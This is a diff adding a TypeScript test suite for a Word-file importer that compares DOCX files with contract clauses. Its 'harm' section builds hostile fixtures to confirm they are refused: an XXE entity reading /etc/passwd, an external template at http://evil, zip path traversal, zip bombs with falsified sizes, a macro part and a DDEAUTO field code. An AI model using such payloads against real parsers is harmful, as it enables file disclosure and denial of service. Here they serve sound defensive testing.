@@ -1,0 +1,327 @@
+// Word files from outside: those of an export come back as what they were, those of others find their clauses, and those
+// that were made to do harm are refused by name.
+
+import { deflateRawSync } from 'node:zlib';
+import { zipSync } from 'fflate';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { docxOf } from '../../server/export/docx/document.ts';
+import { readDocx } from '../../server/export/docx-in/docx-in.ts';
+import { FileRefused } from '../../server/export/docx-in/refused.ts';
+import { ZipIn } from '../../server/export/docx-in/zip-in.ts';
+import { createOffice } from '../../server/export/office.ts';
+import type { Paper } from '../../shared/sheet/paper/types.ts';
+import type { RichNode } from '../../shared/sheet/redline/types.ts';
+import { compareText } from '../../shared/sheet/incoming/compare.ts';
+import { afterOf } from '../../shared/sheet/redline/apply.ts';
+import { redlineOf } from '../../shared/sheet/redline/build.ts';
+import { VirtualTime } from '../support/virtual-time.ts';
+import { paperWith } from './paper-fixture.ts';
+
+const para = (text: string): RichNode => ({
+  type: 'paragraph',
+  ...(text !== '' && { content: [{ type: 'text', text }] }),
+});
+
+const clean = (blocks: readonly RichNode[]): Paper =>
+  paperWith(redlineOf(blocks, blocks), { reading: 'clean' });
+
+const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+const TYPES = '<Types xmlns="x"><Default Extension="xml" ContentType="application/xml"/></Types>';
+
+const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
+
+const wordFile = (body: string, more: Readonly<Record<string, string>> = {}): Uint8Array =>
+  zipSync({
+    '[Content_Types].xml': bytes(TYPES),
+    'word/document.xml': bytes(`<w:document ${W}><w:body>${body}</w:body></w:document>`),
+    ...Object.fromEntries(Object.entries(more).map(([name, text]) => [name, bytes(text)])),
+  });
+
+const p = (text: string, properties = ''): string =>
+  `<w:p>${properties}<w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
+
+const codeOf = (read: () => unknown): string => {
+  try {
+    read();
+    return 'read';
+  } catch (cause) {
+    if (cause instanceof FileRefused) return cause.code;
+    throw cause;
+  }
+};
+
+const inline = fc.array(
+  fc.record({
+    type: fc.constant('text'),
+    text: fc.constantFrom('shall ', 'not', 'by {ref:last} ', ' “x” & <y>', '2.32', '  ', 'é🚚'),
+    marks: fc.constantFrom([], ['em'], ['strong'], ['em', 'strong']),
+  }),
+  { minLength: 1, maxLength: 4 },
+);
+const paragraph = inline.map((content): RichNode => ({ type: 'paragraph', content }));
+const clauseText = fc.array(
+  fc.oneof(
+    { arbitrary: paragraph, weight: 3 },
+    {
+      arbitrary: fc
+        .tuple(
+          fc.constantFrom('bullet_list', 'ordered_list'),
+          fc.array(fc.array(paragraph, { minLength: 1, maxLength: 2 }), {
+            minLength: 1,
+            maxLength: 3,
+          }),
+        )
+        .map(([type, items]): RichNode => ({
+          type,
+          content: items.map((content) => ({ type: 'list_item', content })),
+        })),
+      weight: 1,
+    },
+  ),
+  { minLength: 1, maxLength: 4 },
+);
+
+describe('[IMP4] a file that went out and came back', () => {
+  it('unchanged differs in nothing, whatever the text', async () => {
+    await fc.assert(
+      fc.asyncProperty(clauseText, async (blocks) => {
+        // Two lists of a kind side by side read as one.
+        const kinds = blocks.map(({ type }) => type);
+        fc.pre(kinds.every((type, index) => type === 'paragraph' || type !== kinds[index + 1]));
+        const paper = clean(blocks);
+        const found = compareText(paper, readDocx(await docxOf(paper)));
+        expect({ ...found, same: 0 }).toEqual({
+          ...{ clauses: [], fields: [], same: 0, missing: [], unplaced: [] },
+        });
+        expect(found.same).toBe(2);
+      }),
+      { numRuns: 150 },
+    );
+  });
+
+  it('[IMP3] with its changes tracked is read as if all were accepted, and they are counted', async () => {
+    const redline = redlineOf(
+      [para('one two three'), para('gone')],
+      [para('one 2 three'), para('new')],
+    );
+    const read = readDocx(await docxOf(paperWith(redline)));
+    expect(read.tracked.insertions).toBeGreaterThan(1);
+    expect(read.tracked.deletions).toBeGreaterThan(1);
+    expect(read.tracked.authors).toEqual(['Not known']);
+    expect(compareText(clean(afterOf(redline)), read)).toMatchObject({ clauses: [], same: 2 });
+  });
+
+  it('[IMP5] with another value beside a field shows the words and takes no value', async () => {
+    const paper = clean([para('one')]);
+    const other = {
+      ...paper,
+      sections: paper.sections.map((section) => ({
+        ...section,
+        items: section.items.map((item) =>
+          item.kind === 'field' && item.id === 'minimum' ? { ...item, value: 2_050 } : item,
+        ),
+      })),
+    };
+    expect(compareText(paper, readDocx(await docxOf(other))).fields).toEqual([
+      { termId: 'minimum', label: 'Minimum charge', sheet: '$2.10', file: '$2.05' },
+    ]);
+  });
+});
+
+describe('[IMP4] a file of somebody else', () => {
+  const paper = paperWith(
+    redlineOf(
+      [para('The carrier delivers each piece on the day of tender.')],
+      [para('The carrier delivers each piece on the day of tender.')],
+    ),
+    {
+      places: {
+        first: { kind: 'clause', number: '1.1', name: 'First' },
+        last: { kind: 'clause', number: '2.1', name: 'Last' },
+        end: { kind: 'section', number: '2', name: 'End' },
+      },
+    },
+  );
+  const compare = (body: string) => compareText(paper, readDocx(wordFile(body)));
+  const heading = (text: string): string => p(text, '<w:pPr><w:outlineLvl w:val="1"/></w:pPr>');
+
+  it('is matched by headings, with numbers or without, and by numbers alone', () => {
+    const found = compare(
+      heading('1.1 First') +
+        p('other words') +
+        heading('2.1. Renamed') +
+        p('more words, see clause 1.1'),
+    );
+    expect(found.clauses.map(({ termId, by }) => [termId, by])).toEqual([
+      ['first', 'heading'],
+      ['last', 'number'],
+    ]);
+    expect(found.clauses[1]?.blocks).toEqual([para('more words, see {ref:first}')]);
+  });
+
+  it('without headings is matched by its words, and what fits nowhere is kept', () => {
+    const found = compare(
+      p('The carrier delivers every piece on the day of its tender.') + p('Quite other things.'),
+    );
+    expect(found.clauses.map(({ by }) => by)).toEqual(['likeness']);
+    expect(found.unplaced).toEqual(['Quite other things.']);
+    expect(found.missing).toHaveLength(1);
+  });
+
+  it('a line of text that happens to be a heading’s words begins no clause', () => {
+    const found = compare(heading('First') + p('Last') + p('and so on'));
+    expect(found.clauses[0]?.blocks).toEqual([para('Last'), para('and so on')]);
+  });
+
+  it('[IMP3] reads moved text once, and leaves removed text and field codes out', () => {
+    const found = compare(
+      `${heading('First')}<w:p><w:del w:id="1" w:author="Eve"><w:r><w:delText>old </w:delText></w:r></w:del>` +
+        '<w:moveFrom w:id="2"><w:r><w:t>moved </w:t></w:r></w:moveFrom><w:r><w:t>new</w:t></w:r>' +
+        '<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>',
+    );
+    expect(found.clauses[0]?.blocks).toEqual([para('new')]);
+  });
+});
+
+describe('[IMP2] files that were made to do harm', () => {
+  const rels = (attributes: string): Readonly<Record<string, string>> => ({
+    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r" ${attributes}/></Relationships>`,
+  });
+
+  it('are refused by name', () => {
+    const cases: Readonly<Record<string, readonly [string, Uint8Array]>> = {
+      'no zip': ['file/not-a-zip', bytes('%PDF-1.7 and so on, long enough to be looked at')],
+      empty: ['file/not-a-zip', new Uint8Array()],
+      'a zip of something else': ['file/not-word', zipSync({ 'a.txt': bytes('a') })],
+      'a macro': ['file/macros', wordFile(p('a'), { 'word/vbaProject.bin': 'x' })],
+      'a type with macros': [
+        'file/macros',
+        wordFile(p('a'), {
+          '[Content_Types].xml':
+            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+        }),
+      ],
+      'a template from elsewhere': [
+        'file/external',
+        wordFile(
+          p('a'),
+          rels('Type="x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"'),
+        ),
+      ],
+      'a picture from elsewhere': [
+        'file/external',
+        wordFile(p('a'), rels('Type="x/image" Target="file:///etc/passwd" TargetMode="External"')),
+      ],
+      'a document type': [
+        'file/doctype',
+        wordFile('', {
+          'word/document.xml': `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${W}><w:body>&x;</w:body></w:document>`,
+        }),
+      ],
+      'an entity of its own': [
+        'file/not-xml',
+        wordFile('', { 'word/document.xml': `<w:document ${W}><w:body>&x;</w:body></w:document>` }),
+      ],
+      'a broken part': ['file/not-xml', wordFile('<w:p>')],
+      'deep nesting': ['file/too-deep', wordFile('<w:p>'.repeat(5_000) + '</w:p>'.repeat(5_000))],
+      'a path that leads out': ['file/path', wordFile(p('a'), { '../../etc/passwd': 'x' })],
+      'an absolute path': ['file/path', wordFile(p('a'), { '/etc/passwd': 'x' })],
+      'a path of another system': ['file/path', wordFile(p('a'), { 'c:\\windows\\x': 'x' })],
+      'too many entries': [
+        'file/bomb',
+        wordFile(
+          p('a'),
+          Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`n${String(at)}`, ''])),
+        ),
+      ],
+      'a bomb': ['file/bomb', wordFile(' '.repeat(30 * 1024 * 1024))],
+      'too large': ['file/too-large', new Uint8Array(9 * 1024 * 1024)],
+    };
+    for (const [name, [code, file]] of Object.entries(cases)) {
+      expect([name, codeOf(() => readDocx(file))]).toEqual([name, code]);
+    }
+  });
+
+  it('a bomb that hides its size unpacks no further than the bound', () => {
+    const file = Buffer.from(zipSync({ 'a.xml': bytes('a'.repeat(1_000)) }));
+    const packed = deflateRawSync(Buffer.alloc(5_000_000));
+    const honest = zipSync({ 'a.xml': [new Uint8Array(5_000_000), { level: 9 }] });
+    const lying = Buffer.from(honest);
+    // The directory says that a hundred bytes come out.
+    const entry = lying.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
+    lying.writeUInt32LE(100, entry + 24);
+    const limits = { fileBytes: 1e6, entries: 10, entryBytes: 100_000, allBytes: 200_000 };
+    expect(packed.length).toBeLessThan(10_000);
+    expect(codeOf(() => new ZipIn(lying, limits).read('a.xml'))).toBe('file/bomb');
+    expect(new ZipIn(file, limits).read('a.xml')).toHaveLength(1_000);
+  });
+
+  it('encrypted, cut off and doubled entries are refused, and any other damage too', () => {
+    const file = Buffer.from(wordFile(p('a')));
+    const entry = file.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
+    const encrypted = Buffer.from(file);
+    encrypted.writeUInt16LE(1, entry + 8);
+    expect(codeOf(() => readDocx(encrypted))).toBe('file/encrypted');
+    expect(codeOf(() => readDocx(file.subarray(0, file.length - 30)))).toBe('file/not-a-zip');
+    fc.assert(
+      fc.property(fc.nat(file.length - 1), fc.nat(255), (place, value) => {
+        const damaged = Buffer.from(file);
+        damaged[place] = value;
+        expect(codeOf(() => readDocx(damaged))).toMatch(/^(read|file\/)/);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('of a link the words are taken and the link is counted', () => {
+    const more = {
+      'word/_rels/document.xml.rels':
+        '<Relationships><Relationship Id="r1" Type="x/hyperlink" Target="http://a" TargetMode="External"/></Relationships>',
+    };
+    const link =
+      '<w:p><w:hyperlink r:id="r1" xmlns:r="r"><w:r><w:t>words</w:t></w:r></w:hyperlink></w:p>';
+    const read = readDocx(wordFile(link, more));
+    expect(read.links).toBe(1);
+    expect(read.paragraphs[0]?.content).toEqual([{ type: 'text', text: 'words' }]);
+  });
+});
+
+describe('[IMP1] the thread in which files are read', () => {
+  it('refuses one file and goes on with the next, while the server does other things', async () => {
+    const office = createOffice(new VirtualTime());
+    const paper = clean([para('one')]);
+    let turns = 0;
+    let isDone = false;
+    const spin = (): void => {
+      turns += 1;
+      if (!isDone) setImmediate(spin);
+    };
+    spin();
+    const bomb = wordFile(' '.repeat(30 * 1024 * 1024));
+    const [refused, read] = await Promise.allSettled([
+      office.run({ kind: 'compare-docx', paper, bytes: bomb }),
+      office.run({ kind: 'compare-docx', paper, bytes: await docxOf(paper) }),
+    ]);
+    isDone = true;
+    expect(refused).toMatchObject({ status: 'rejected', reason: { code: 'file/bomb' } });
+    expect(read).toMatchObject({ status: 'fulfilled', value: { comparison: { same: 2 } } });
+    expect(turns).toBeGreaterThan(100);
+    await office.close();
+  });
+
+  it('ends a file that takes too long, and whoever waits is served by another thread', async () => {
+    const time = new VirtualTime();
+    const office = createOffice(time);
+    const paper = clean([para('one')]);
+    const slow = office.run({ kind: 'write-docx', paper });
+    const next = office.run({ kind: 'write-docx', paper });
+    // As long as a file may take, before the thread has even started.
+    const outcome = expect(slow).rejects.toMatchObject({ code: 'file/too-slow' });
+    await time.advance(10_000);
+    await outcome;
+    expect((await next).length).toBeGreaterThan(1_000);
+    await office.close();
+    await expect(office.run({ kind: 'write-docx', paper })).rejects.toThrow();
+  });
+});
